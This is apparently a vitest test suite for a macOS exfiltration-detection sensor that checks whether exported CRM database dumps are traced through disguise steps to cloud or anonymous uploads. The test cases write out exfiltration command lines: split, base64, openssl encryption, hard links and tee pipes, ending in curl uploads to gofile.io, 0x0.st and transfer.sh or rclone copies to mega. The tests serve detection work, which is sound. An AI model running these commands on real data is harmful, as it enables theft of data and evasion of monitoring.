import { describe, expect, it } from 'vitest';
import { Desk, LENA, OMAR } from '../../support/desk.ts';
import { MAC_PROGRAMS } from '../../support/mac-programs.ts';
import { replayed } from '../../support/replay.ts';
import { PROGRAMS, type Program } from '../../support/story.ts';

const DRIVE = 'Library/CloudStorage/GoogleDrive-lena@example.org';

describe('somebody who knows how to hide hands data on', () => {
  it('to a colleague, who moves it into a sync folder: the chain is of the one who exported', () => {
    const desk = new Desk();
    desk.story.write(desk.type(PROGRAMS.psql, 'psql crm'), '/Users/Shared/x.sql');
    const omar = desk.story.shell(OMAR);
    const mv = desk.story
      .wait(3600)
      .run(omar, { ...PROGRAMS.mv, args: ['mv'], cwd: '/Users/omar' });
    desk.story.rename(mv, '/Users/Shared/x.sql', '/Users/omar/Dropbox/holiday/x.mov');
    expect(desk.findings()).toMatchObject([
      {
        user: 'lena',
        stage: 'upload',
        severity: 'high',
        evidence: 'landed-in-sync-folder',
        service: 'dropbox',
        destination: '/Users/omar/Dropbox',
        files: ['/Users/Shared/x.sql', '/Users/omar/Dropbox/holiday/x.mov'],
      },
    ]);
  });

  it('as an archive that is made in /tmp, renamed and moved into a provider’s folder', () => {
    const desk = new Desk();
    desk.dump('Documents/march/ledger.sql');
    const zip = desk.type(PROGRAMS.zip, 'zip -qr /tmp/a.zip Documents/march');
    desk.story
      .write(zip, '/private/tmp/ziQ1w2e3')
      .rename(zip, '/private/tmp/ziQ1w2e3', '/private/tmp/a.zip');
    const mv = desk.type(PROGRAMS.mv, 'mv /tmp/a.zip x');
    desk.story.rename(mv, '/private/tmp/a.zip', '/private/tmp/IMG_2231.heic');
    desk.story.rename(mv, '/private/tmp/IMG_2231.heic', desk.at(`${DRIVE}/My Drive/IMG_2231.heic`));
    expect(desk.findings()).toMatchObject([
      {
        stage: 'upload',
        link: 'lineage',
        evidence: 'landed-in-sync-folder',
        service: 'gdrive',
        destination: desk.at(DRIVE),
        files: [
          desk.at('Documents/march/ledger.sql'),
          '/private/tmp/ziQ1w2e3',
          '/private/tmp/a.zip',
          '/private/tmp/IMG_2231.heic',
          desk.at(`${DRIVE}/My Drive/IMG_2231.heic`),
        ],
      },
    ]);
  });

  it.each<[string, string, Program, readonly string[], string]>([
    [
      'in pieces',
      'split -b 10m Documents/x.sql /tmp/part-',
      { path: '/usr/bin/split', signingId: 'com.apple.split', platform: true },
      ['/private/tmp/part-aa', '/private/tmp/part-ab'],
      '/tmp/part-ab',
    ],
    [
      'as text',
      'base64 -i Documents/x.sql -o Pictures/x.txt',
      { path: '/usr/bin/base64', signingId: 'com.apple.base64', platform: true },
      ['/Users/lena/Pictures/x.txt'],
      'Pictures/x.txt',
    ],
    [
      'encrypted',
      'openssl enc -aes-256-cbc -in Documents/x.sql -out Pictures/x.bin -k p',
      MAC_PROGRAMS.openssl,
      ['/Users/lena/Pictures/x.bin'],
      'Pictures/x.bin',
    ],
    [
      'in a disk image',
      'hdiutil create -srcfolder Documents Pictures/x.dmg',
      { path: '/usr/bin/hdiutil', signingId: 'com.apple.hdiutil', platform: true },
      ['/Users/lena/Pictures/x.dmg'],
      'Pictures/x.dmg',
    ],
    [
      'by dd',
      'dd if=Documents/x.sql of=Pictures/x.raw bs=1m',
      { path: '/bin/dd', signingId: 'com.apple.dd', platform: true },
      ['/Users/lena/Pictures/x.raw'],
      'Pictures/x.raw',
    ],
  ])('%s', (_, line, program, made, sent) => {
    const desk = new Desk();
    desk.dump('Documents/x.sql');
    const tool = desk.type(program, line);
    for (const path of made) desk.story.write(tool, path);
    desk.type(PROGRAMS.curl, `curl -T ${sent} https://gofile.io/u`);
    expect(desk.findings()).toMatchObject([
      { stage: 'upload', severity: 'critical', link: 'lineage', service: 'gofile' },
    ]);
  });

  it('by appending it to a file that was there', () => {
    const desk = new Desk();
    desk.dump('Documents/x.sql');
    const child = desk.story.fork(desk.shell);
    const cat = desk.story.exec(child, desk.program(PROGRAMS.cat, 'cat Documents/x.sql'));
    desk.story.close(cat, desk.at('Pictures/notes'));
    desk.type(PROGRAMS.curl, 'curl -T Pictures/notes https://gofile.io/u');
    expect(desk.findings()).toMatchObject([
      { stage: 'upload', files: [desk.at('Documents/x.sql'), desk.at('Pictures/notes')] },
    ]);
  });

  it('through tee, which writes it down on the way', () => {
    const desk = new Desk();
    const [dump, tee] = [desk.story.fork(desk.shell), desk.story.fork(desk.shell)];
    desk.story.exec(dump, desk.program(MAC_PROGRAMS.pgDump, 'pg_dump crm', { stdout: 5 }));
    const writer = desk.story.exec(
      tee,
      desk.program(MAC_PROGRAMS.tee, 'tee Movies/clip.mov', { stdin: 5 }),
    );
    desk.story.write(writer, desk.at('Movies/clip.mov'));
    desk.type(PROGRAMS.rclone, 'rclone copy Movies/clip.mov box:x');
    expect(desk.findings()).toMatchObject([
      { stage: 'upload', link: 'lineage', service: 'box', files: [desk.at('Movies/clip.mov')] },
    ]);
  });

  it('through a substituted process', () => {
    const desk = new Desk();
    desk.dump('Documents/x.sql');
    const [gzip, curl] = [desk.story.fork(desk.shell), desk.story.fork(desk.shell)];
    desk.story.exec(gzip, desk.program(PROGRAMS.gzip, 'gzip -c Documents/x.sql', { stdout: 6 }));
    desk.story.exec(
      curl,
      desk.program(PROGRAMS.curl, 'curl -F f=@/dev/fd/63 https://gofile.io/u', {
        descriptors: [{ fd: 63, pipe: 6 }],
      }),
    );
    expect(desk.findings()).toMatchObject([
      { stage: 'upload', link: 'lineage', evidence: 'piped-to-uploader', service: 'gofile' },
    ]);
  });

  it('through tee into a substituted process', () => {
    const desk = new Desk();
    const children = [
      desk.story.fork(desk.shell),
      desk.story.fork(desk.shell),
      desk.story.fork(desk.shell),
    ] as const;
    desk.story.exec(
      children[2],
      desk.program(PROGRAMS.curl, 'curl -T - https://gofile.io/u', { stdin: 8 }),
    );
    desk.story.exec(children[0], desk.program(MAC_PROGRAMS.pgDump, 'pg_dump crm', { stdout: 7 }));
    const tee = desk.program(MAC_PROGRAMS.tee, 'tee /dev/fd/63', { stdin: 7 });
    desk.story.exec(children[1], { ...tee, descriptors: [{ fd: 63, pipe: 8 }] });
    expect(desk.findings()).toMatchObject([{ stage: 'upload', link: 'pipe', service: 'gofile' }]);
  });

  it('not through pipes that programs only inherit', () => {
    const desk = new Desk();
    const [dump, curl] = [desk.story.fork(desk.shell), desk.story.fork(desk.shell)];
    const descriptors = [{ fd: 4, pipe: 9 }];
    desk.story.exec(dump, desk.program(MAC_PROGRAMS.pgDump, 'pg_dump crm', { descriptors }));
    desk.story.exec(
      curl,
      desk.program(PROGRAMS.curl, 'curl -T - https://gofile.io/u', { descriptors }),
    );
    expect(desk.findings()).toMatchObject([{ stage: 'tool' }]);
  });

  it('by rsync into a provider’s folder, which writes a name of its own first', () => {
    const desk = new Desk();
    desk.dump('Documents/x.sql');
    const folder = desk.at('Library/CloudStorage/Dropbox');
    const rsync = desk.type(MAC_PROGRAMS.rsync, `rsync -a Documents/x.sql ${folder}/`);
    desk.story.write(rsync, `${folder}/.x.sql.Ab3dE9`);
    desk.story.rename(rsync, `${folder}/.x.sql.Ab3dE9`, `${folder}/x.sql`);
    expect(desk.findings()).toMatchObject([
      {
        stage: 'upload',
        evidence: 'landed-in-sync-folder',
        service: 'dropbox',
        destination: folder,
      },
    ]);
    expect(desk.stages()).toEqual(['tool', 'export', 'upload']);
  });

  it('under one more name for the same file', () => {
    const desk = new Desk();
    desk.dump('Documents/x.sql');
    const ln = desk.type(MAC_PROGRAMS.ln, 'ln Documents/x.sql Pictures/IMG_1.jpg');
    desk.story.link(ln, desk.at('Documents/x.sql'), desk.at('Pictures/IMG_1.jpg'));
    desk.type(PROGRAMS.curl, 'curl -F f=@Pictures/IMG_1.jpg https://0x0.st');
    expect(desk.findings()).toMatchObject([
      { stage: 'upload', files: [desk.at('Documents/x.sql'), desk.at('Pictures/IMG_1.jpg')] },
    ]);
  });

  it('as a clone that cp -c makes in a folder of the cloud', () => {
    const desk = new Desk();
    desk.dump('Documents/x.sql');
    const cp = desk.type(PROGRAMS.cp, `cp -c Documents/x.sql OneDrive/y`);
    desk.story.clone(cp, desk.at('Documents/x.sql'), desk.at('OneDrive - Acme/y'));
    expect(desk.findings()).toMatchObject([
      { stage: 'upload', service: 'onedrive', destination: desk.at('OneDrive - Acme') },
    ]);
  });

  it('after an editor has saved it under its own name', () => {
    const desk = new Desk();
    desk.dump('Documents/x.csv');
    const excel = desk.background(MAC_PROGRAMS.excel);
    desk.story.wait(2 * 3600).open(excel, desk.at('Documents/x.csv'));
    const temporary = '/private/var/folders/zz/T/TemporaryItems/NSIRD_Excel/x.csv';
    desk.story.write(excel, temporary).renameOver(excel, temporary, desk.at('Documents/x.csv'));
    desk.type(PROGRAMS.curl, 'curl -T Documents/x.csv https://gofile.io/u');
    expect(desk.findings()).toMatchObject([
      { stage: 'upload', link: 'lineage', files: [desk.at('Documents/x.csv')] },
    ]);
  });
});

describe('a tool that somebody else seems to run', () => {
  it('by sudo as another user, with the output redirected by the shell', () => {
    const desk = new Desk();
    const child = desk.story.fork(desk.shell);
    desk.story.create(child, desk.at('Desktop/all.sql'));
    const sudo = desk.story.exec(
      child,
      desk.program(MAC_PROGRAMS.sudo, 'sudo -u postgres pg_dumpall'),
    );
    const dump = desk.story.run(sudo, {
      ...MAC_PROGRAMS.pgDumpall,
      args: ['pg_dumpall'],
      cwd: '/',
      ruid: 216,
    });
    desk.story.exit(dump).close(sudo, desk.at('Desktop/all.sql'));
    expect(desk.findings()).toMatchObject([
      { user: 'lena', uid: 503, tool: 'pg_dumpall', stage: 'export', link: 'lineage' },
    ]);
  });

  it('inside tmux, whose server belongs to no terminal', () => {
    const desk = new Desk();
    const tmux = desk.background({ path: '/opt/homebrew/bin/tmux', signingId: 'tmux' });
    const shell = desk.story.run(tmux, desk.program(PROGRAMS.zsh, 'zsh'));
    const psql = desk.story.run(shell, desk.program(PROGRAMS.psql, 'psql crm'));
    desk.story.write(psql, desk.at('Desktop/a.csv'));
    expect(desk.findings()).toMatchObject([{ user: 'lena', stage: 'export', link: 'lineage' }]);
  });

  it('over ssh from another machine', () => {
    const desk = new Desk();
    const sshd = desk.story.running(
      { path: '/usr/sbin/sshd', platform: true },
      { uid: 0, name: 'root' },
    );
    const login = { ...PROGRAMS.zsh, args: ['-zsh'], auid: LENA.uid, ruid: LENA.uid, isApp: true };
    const shell = desk.story.run(sshd, login);
    const child = desk.story.fork(shell);
    desk.story.create(child, desk.at('a.sql'));
    const dump = desk.story.exec(child, desk.program(MAC_PROGRAMS.pgDump, 'pg_dump crm'));
    desk.story.close(dump, desk.at('a.sql'));
    expect(desk.findings()).toMatchObject([{ user: 'lena', tool: 'pg_dump', stage: 'export' }]);
  });

  it('by launchd on behalf of the user; of a daemon it is nobody’s', () => {
    for (const [auid, stages] of [
      [LENA.uid, ['tool', 'export']],
      [4_294_967_295, []],
    ] as const) {
      const desk = new Desk();
      const ruid = auid === LENA.uid ? LENA.uid : 0;
      const bash = {
        ...MAC_PROGRAMS.bash,
        args: ['bash', '/opt/nightly.sh'],
        auid,
        ruid,
        cwd: '/',
      };
      const script = desk.story.run(desk.story.launchd, bash);
      const dump = desk.story.run(script, {
        ...MAC_PROGRAMS.pgDump,
        args: ['pg_dump', 'crm'],
        cwd: '/',
      });
      desk.story.write(dump, desk.at('Documents/nightly.sql'));
      expect(desk.stages()).toEqual(stages);
    }
  });

  it('inside another tool is part of that tool’s session', () => {
    const desk = new Desk();
    const dbeaver = desk.launch(PROGRAMS.dbeaver);
    const shell = desk.story.run(dbeaver, desk.program(PROGRAMS.zsh, 'zsh'));
    const dump = desk.story.run(shell, desk.program(MAC_PROGRAMS.mysqldump, 'mysqldump crm'));
    desk.story.write(dump, desk.at('Desktop/a.sql'));
    const psql = desk.story.run(shell, desk.program(PROGRAMS.psql, 'psql crm'));
    desk.story.write(psql, desk.at('Desktop/b.csv'));
    desk.type(PROGRAMS.rclone, 'rclone copy Desktop mega:x');
    expect(desk.findings()).toMatchObject([
      {
        tool: 'DBeaver',
        count: 1,
        stage: 'upload',
        files: [desk.at('Desktop/a.sql'), desk.at('Desktop/b.csv')],
      },
    ]);
  });
});

describe('several things at once', () => {
  it('two users with files of the same name have a finding each, of their own file', () => {
    const desk = new Desk();
    const omar = desk.story.shell(OMAR);
    const hers = desk.type(PROGRAMS.psql, 'psql crm');
    const his = desk.story.run(omar, {
      ...PROGRAMS.psql,
      args: ['psql', 'crm'],
      cwd: '/Users/omar',
    });
    desk.story.create(hers, desk.at('Documents/a.csv')).create(his, '/Users/omar/Documents/a.csv');
    desk.story.close(hers, desk.at('Documents/a.csv')).close(his, '/Users/omar/Documents/a.csv');
    const rclone = 'rclone copy Documents/a.csv mega:x'.split(' ');
    desk.story.run(omar, { ...PROGRAMS.rclone, args: rclone, cwd: '/Users/omar' });
    expect(desk.findings()).toMatchObject([
      { user: 'lena', stage: 'export', files: [desk.at('Documents/a.csv')] },
      { user: 'omar', stage: 'upload', files: ['/Users/omar/Documents/a.csv'] },
    ]);
  });

  it('an approved service and an anonymous one: the worse counts, in either order', () => {
    const config = { cloud: { sanctioned: ['onedrive'] } };
    const approved = 'rclone copy Desktop/a.sql onedrive:x';
    const anonymous = 'curl -T Desktop/a.sql https://transfer.sh/';
    for (const lines of [
      [approved, anonymous],
      [anonymous, approved],
    ]) {
      const desk = new Desk();
      desk.dump('Desktop/a.sql');
      for (const line of lines)
        desk.type(line.startsWith('curl') ? PROGRAMS.curl : PROGRAMS.rclone, line);
      expect(desk.findings(config)).toMatchObject([
        {
          severity: 'critical',
          service: 'transfer-sh',
          serviceTier: 'anonymous',
          sanctioned: false,
        },
      ]);
    }
  });

  it('every line twice is the same story', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    desk.mv('Desktop/a.sql', 'Dropbox/b.sql');
    const once = desk.emissions();
    const twice = desk.story.lines().flatMap((line) => [line, line]);
    expect(replayed(twice.map((line) => `${line}\n`).join('')).emissions).toEqual(once);
    // A recording that was joined with itself: its beginning comes again.
    const again = [...desk.story.lines(), ...desk.story.lines().slice(0, 3)];
    expect(replayed(again.map((line) => `${line}\n`).join('')).emissions).toEqual(once);
  });

  it('a sensor that begins anew in the midst leaves the chain whole and its coverage not', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    desk.story.restartSensor().noise(1);
    desk.mv('Desktop/a.sql', 'Desktop/b.sql');
    desk.story.restartSensor().noise(1);
    desk.type(PROGRAMS.rclone, 'rclone copy Desktop/b.sql mega:x');
    expect(desk.findings()).toMatchObject([
      { stage: 'upload', severity: 'high', confidence: 'medium', coverage: 'gaps' },
    ]);
  });

  it('a role that is taken away between export and upload does not change the chain', () => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    desk.story.host([{ ...LENA, groups: ['staff', '_developer'] }, OMAR]);
    desk.type(PROGRAMS.rclone, 'rclone copy Desktop/a.sql mega:x');
    expect(desk.findings()).toMatchObject([
      { role: 'unassigned', stage: 'upload', severity: 'high' },
    ]);
  });
});

describe('what an analyst does not want to see', () => {
  const EXPORTED = [{ stage: 'export', evidence: null }];

  it.each<[string, (desk: Desk) => unknown]>([
    [
      'a backup of the export',
      (desk) => {
        const backup = {
          path: '/System/Library/CoreServices/backupd.bundle/Contents/Resources/backupd',
        };
        const backupd = desk.background({
          ...backup,
          signingId: 'com.apple.backupd',
          platform: true,
        });
        desk.story.open(backupd, desk.at('Desktop/a.sql'));
        desk.story.write(backupd, '/Volumes/Backup/2026-03-10/Desktop/a.sql');
      },
    ],
    [
      'an upload of a file whose name is the same in another folder',
      (desk) => desk.type(PROGRAMS.curl, 'curl -T Documents/a.sql https://gofile.io/u'),
    ],
    [
      'a sync client that reads another folder',
      (desk) => desk.story.open(desk.background(PROGRAMS.dropbox), desk.at('Dropbox/b.sql')),
    ],
    [
      'a file that is made anew where the export was',
      (desk) => {
        const rm = desk.type(MAC_PROGRAMS.script, 'rm Desktop/a.sql');
        desk.story.unlink(rm, desk.at('Desktop/a.sql'));
        desk.story.write(desk.background(MAC_PROGRAMS.script), desk.at('Desktop/a.sql'));
        desk.type(PROGRAMS.curl, 'curl -T Desktop/a.sql https://gofile.io/u');
      },
    ],
    [
      'a dump that is restored from the file',
      (desk) => desk.type(PROGRAMS.mysql, 'mysql crm -e source', { cwd: desk.at('Desktop') }),
    ],
    [
      'a tunnel to the database',
      (desk) => desk.type({ path: '/usr/bin/ssh' }, 'ssh -N -L 1:db:1 bastion'),
    ],
  ])('is no upload: %s', (_, tell) => {
    const desk = new Desk();
    desk.dump('Desktop/a.sql');
    tell(desk);
    expect(desk.findings()[0]).toMatchObject(EXPORTED[0]!);
  });
});
